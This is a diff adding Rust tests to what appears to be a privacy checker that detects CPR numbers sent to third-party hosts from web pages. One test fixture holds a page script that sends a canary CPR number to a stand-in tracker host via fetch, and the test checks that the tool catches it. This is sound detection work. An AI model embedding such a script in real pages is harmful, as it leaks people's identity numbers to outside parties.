@@ -273,3 +273,42 @@ fn a_browser_is_started_behind_the_proxy() {
     );
     run(&served, &KNOWN, &["node", "-e", &spawn]).ends_with(1).says("cpr-in-third-party-request");
 }
+
+/// A page whose script tells the number, in Firefox by its name: headless, with a profile that knows of no proxy.
+#[test]
+fn firefox_is_seen_too() {
+    if no_browser() {
+        return;
+    }
+    let leak = format!(
+        "<!doctype html><title>Borger</title><script>fetch('https://{TRACKER}/c?cpr={CANARY}', {{mode: 'no-cors'}})</script>"
+    );
+    let leaks = Served::start(vec![
+        HostedSite::new(SITE, move |_| Reply::html(leak.clone())),
+        HostedSite::new(TRACKER, |_| Reply::no_content()),
+    ]);
+    let shown = |served: &Served| {
+        let url = format!("https://{SITE}/");
+        let profile = served.bench.path("profile");
+        std::fs::create_dir(&profile).unwrap();
+        let profile = profile.display().to_string();
+        run(served, &KNOWN, &["firefox", "--headless", "--no-remote", "--profile", &profile, "--screenshot", &url])
+    };
+    shown(&leaks).ends_with(1).says("cpr-in-third-party-request");
+    shown(&sites()).ends_with(0);
+}
+
+/// Selenium Manager is asked for either browser, and takes one variable for both.
+#[test]
+fn selenium_is_given_the_browser_that_it_asks_for() {
+    let served = sites();
+    let asks = |browser: &str| {
+        // As it asks: by a shell, for the version.
+        let script = format!(
+            "cp \"$(command -v sh)\" selenium-manager && ./selenium-manager -c '\"$SE_BROWSER_PATH\" --version; :' --browser {browser}"
+        );
+        shell(&served, &KNOWN, &script).stdout
+    };
+    assert!(asks("firefox").contains("Firefox"), "{}", asks("firefox"));
+    assert!(asks("chrome").contains("Chromium"), "{}", asks("chrome"));
+}
